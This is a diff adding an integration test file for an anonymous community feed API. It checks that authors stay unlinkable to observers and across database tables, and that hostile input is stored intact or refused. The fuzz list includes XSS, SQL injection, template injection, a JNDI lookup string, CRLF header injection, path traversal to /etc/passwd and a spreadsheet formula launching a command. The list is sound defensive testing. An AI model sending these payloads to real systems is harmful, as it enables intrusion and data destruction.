@@ -1,0 +1,216 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { type Person, startTestWorld, type TestWorld } from './testing';
+
+/** Every look at the clock is a little later, as in life, so that nothing stands in a random order. */
+let clock = Date.parse('2026-11-20T12:04:56.789Z');
+let world: TestWorld;
+beforeAll(async () => {
+  world = await startTestWorld({ now: () => new Date(clock++) });
+});
+afterAll(() => world.close());
+
+const BASE = '/feed-services';
+const post = (title: string) => ({
+  title,
+  content: 'What would you do?',
+  community: { type: 'TOPIC', entityId: 7 },
+  profileType: 'ANONYMOUS',
+  media: [],
+  poll: null,
+  salaryIds: [],
+});
+const said = (text: string) => ({ text, profileType: 'ANONYMOUS' });
+
+/** Everything somebody can fetch of a post and its talk, headers included, random names renamed as they appear. */
+async function observed(
+  postId: string,
+  comments: readonly string[],
+  cookie?: string,
+): Promise<{ readonly raw: string; readonly renamed: string }> {
+  const paths = [
+    `/v1/feed/${postId}`,
+    ...['popularity', 'newToOld', 'oldToNew'].map((sort) => `/v1/post/${postId}/comments?sort=${sort}`),
+    ...comments.flatMap((id) => [`/v1/comment/${id}`, `/v1/comment/${id}/replies`]),
+    '/v2/feed/community/TOPIC/7/posts?sort=newToOld&limit=1',
+    '/v3/feed?feedType=PERSONALIZED&sort=LATEST&limit=1',
+    `/v1/vote?resourceId=${postId}&resourceType=POST`,
+  ];
+  const seen: unknown[] = [];
+  for (const path of paths) {
+    const reply = await world.send({ url: BASE + path, headers: cookie === undefined ? {} : { cookie } });
+    const { 'x-request-id': _, date: __, 'server-timing': ___, ...headers } = reply.headers;
+    seen.push([path, reply.statusCode, headers, reply.body]);
+  }
+  const names = new Map<string, string>();
+  const raw = JSON.stringify(seen);
+  const renamed = raw.replace(/"content-length":"?\d+"?/g, '').replace(/[A-Za-z0-9_-]{22,}/g, (name) => {
+    names.set(name, names.get(name) ?? `random ${names.size}`);
+    return names.get(name) ?? '';
+  });
+  return { raw, renamed };
+}
+
+/** The same evening with one author or another: a post, a talk, a change, a reaction, something taken back. */
+async function evening(author: Person, colleague: Person): Promise<{ post: string; comments: string[] }> {
+  const write = (
+    method: 'POST' | 'PUT' | 'PATCH' | 'DELETE',
+    path: string,
+    body: object | undefined,
+    who: Person,
+  ) => world.write(method, path, body, who.cookie);
+  const id = (await write('POST', '/v2/post', post('Stay or go?'), author)).body.postId;
+  await write('PATCH', `/v2/post/${id}`, { title: 'Stay or go now?', content: 'Truly.' }, author);
+  const theirs = (await write('POST', `/v1/post/${id}/comment`, said('Stay.'), colleague)).body.commentId;
+  const reply = (await write('POST', `/v1/post/comment/${theirs}/reply`, said('Why?'), author)).body
+    .commentId;
+  const own = (await write('POST', `/v1/post/${id}/comment`, said('I will go.'), author)).body.commentId;
+  await write('PATCH', `/v1/comment/${own}`, { text: 'I will go, then.' }, author);
+  const gone = (await write('POST', `/v1/post/${id}/comment`, said('Regret'), author)).body.commentId;
+  await write('POST', `/v1/post/comment/${gone}/reply`, said('What was it?'), colleague);
+  await write('DELETE', `/v1/comment/${gone}`, undefined, author);
+  await write('PUT', `/v1/comment/${theirs}/reaction`, { reaction: 'support' }, author);
+  await write('POST', `/v1/post/${id}/comment`, said('You idiot'), author);
+  await write('POST', '/v1/postview/bulk', { postIds: [id] }, author);
+  return { post: id, comments: [theirs, reply, own, gone] };
+}
+
+describe('who wrote it', () => {
+  it('[R-010] five kinds of observers see the same, whoever the author is', async () => {
+    const people = await Promise.all(
+      ['Anita', 'Chitra', 'Colleague', 'Stranger', 'Reader'].map(world.person),
+    );
+    const [a, c, colleague, stranger, reader] = people as [Person, Person, Person, Person, Person];
+    const { db } = world.services;
+    await db
+      .updateTable('members')
+      .set({ career_status: 'working', experience_years: 9, job_profile_id: 1 })
+      .where('id', '=', a.memberId)
+      .execute();
+    await db.updateTable('members').set({ is_writer: false }).where('id', '=', reader.memberId).execute();
+    const newcomer = await world.signIn('Mb6newmJ1Ts6Lf0e');
+    let everything = '';
+    const cookies = [undefined, stranger.cookie, reader.cookie, newcomer, colleague.cookie];
+    const views = async ({ post: id, comments }: { post: string; comments: string[] }) => {
+      const seen: string[] = [];
+      for (const cookie of cookies) {
+        const { raw, renamed } = await observed(id, comments, cookie);
+        everything += raw;
+        seen.push(renamed);
+      }
+      return seen;
+    };
+    const first = await evening(a, colleague);
+    const seen = await views(first);
+    // Out of the way, so that the second evening stands where the first one stood.
+    await db.deleteFrom('posts').where('id', '=', first.post).execute();
+    await db
+      .updateTable('communities')
+      .set({ posts: 0 })
+      .where('type', '=', 'TOPIC')
+      .where('entity_id', '=', 7)
+      .execute();
+    const counted = await db
+      .selectFrom('communities')
+      .select('posts')
+      .where('type', '=', 'TOPIC')
+      .where('entity_id', '=', 7)
+      .executeTakeFirst();
+    expect(counted?.posts).toBe(0);
+    const second = await evening(c, colleague);
+    const strip = (text: string) => text.replace(/\\"posts\\":\d+/g, '');
+    expect((await views(second)).map(strip)).toEqual(seen.map(strip));
+    expect(everything).not.toMatch(/Regret|idiot/);
+    for (const { memberId, faces } of [a, c])
+      for (const secret of [memberId, faces.ANONYMOUS, faces.DESIGNATION])
+        expect(everything).not.toContain(secret);
+  });
+
+  it('[R-010] no seal of what somebody wrote, kept or asked stands in two tables', async () => {
+    const me = await world.person('Me');
+    const { post: id, comments } = await evening(me, await world.person('Colleague'));
+    const question = await world.post((await world.person('Asker')).faces.ANONYMOUS, { kind: 'QUESTION' });
+    const write = (method: 'POST' | 'PUT', path: string, body: object) =>
+      world.write(method, path, body, me.cookie);
+    await write('PUT', `/v1/post/${question}/request-answer`, { wanted: true });
+    await write('PUT', `/v1/post/${question}/not-interested`, { wanted: true });
+    await write('POST', '/v1/report', {
+      resourceId: question,
+      resourceType: 'POST',
+      reason: 'SPAM',
+      note: '',
+    });
+    const seals = await world.database.pool.query(
+      `select 'faces' as place, owner_seal as seal from faces where id = any($1)
+       union all select 'views', viewer_seal from post_views where post_id = $2
+       union all select 'asks', asker_seal from answer_requests where post_id = $3
+       union all select 'unwanted', reader_seal from unwanted_posts where post_id = $3
+       union all select 'reports', reporter_seal from reports where resource_id = $3
+       union all select 'reactions', reactor_seal from comment_reactions where comment_id = any($4)
+       union all select distinct 'keys', owner_seal from idempotency_keys`,
+      [Object.values(me.faces), id, question, comments],
+    );
+    const places = new Map<string, Set<string>>();
+    for (const { place, seal } of seals.rows) places.set(seal, (places.get(seal) ?? new Set()).add(place));
+    expect(seals.rows.length).toBeGreaterThan(12);
+    for (const [seal, where] of places) expect([...where], seal).toHaveLength(1);
+  });
+});
+
+/** Three hundred texts that have broken somebody's page, database or layout. */
+const HOSTILE: readonly string[] = [
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  "'; drop table posts; --",
+  '{{constructor.constructor("alert(1)")()}}',
+  '[click](javascript:alert(1))',
+  '\u202Egnp.exe\u202C',
+  'a\u0301'.repeat(900),
+  `Z${'\u0335'.repeat(1900)}`,
+  '\u2066\u2067\u2068hidden\u2069',
+  '👩‍👩‍👧‍👦'.repeat(60),
+  '\uFDFA'.repeat(200),
+  'क्षत्रिय '.repeat(150),
+  '%00%0d%0aSet-Cookie: a=b',
+  '${jndi:ldap://x.example/a}',
+  '\\u0000 \\x00 \\0',
+  '-1e308 NaN null undefined',
+  '../../../../etc/passwd',
+  '\u200bx\u200b',
+  ' '.repeat(3) + 'tabs\tand\nlines',
+  '=cmd|"/c calc"!A1',
+];
+const hostile = Array.from({ length: 300 }, (_, at) => {
+  const base = HOSTILE[at % HOSTILE.length] ?? '';
+  return at < HOSTILE.length ? base : `${base.slice(0, 1900)} ${String.fromCodePoint(0x21 + at * 37)}`;
+});
+
+describe('hostile texts', () => {
+  it('[R-529] are kept as they were written or refused with the field, in every place one writes', async () => {
+    const [author, other] = [await world.person('Author'), await world.person('Other')];
+    const id = await world.post(author.faces.ANONYMOUS);
+    for (const text of hostile) {
+      const { status, body } = await world.write('POST', `/v1/post/${id}/comment`, said(text), other.cookie);
+      if (status === 201) expect(body.text).toBe(text.normalize('NFC').replace(/\r\n?/g, '\n').trim());
+      else expect([400, 422], text).toContain(status);
+      if (status !== 201) expect(body.errors?.[0]?.field ?? '/body/text').toBe('/body/text');
+    }
+    for (const text of hostile.slice(0, HOSTILE.length)) {
+      const title = [...text].slice(0, 150).join('');
+      const { status, body } = await world.write(
+        'POST',
+        '/v2/post',
+        { ...post(title), content: text, poll: { options: [`${title}`.slice(0, 40) || 'a', 'b'], days: 1 } },
+        other.cookie,
+      );
+      expect([201, 400, 422], title).toContain(status);
+      if (status === 201 && body.postId)
+        expect((await world.get(`/v1/feed/${body.postId}`, other.cookie)).body.content).toBe(
+          text.normalize('NFC').trim(),
+        );
+    }
+    for (const text of ['a\0b', 'half \ud83d']) {
+      const { status } = await world.write('POST', `/v1/post/${id}/comment`, said(text), other.cookie);
+      expect(status).toBe(400);
+    }
+  });
+});
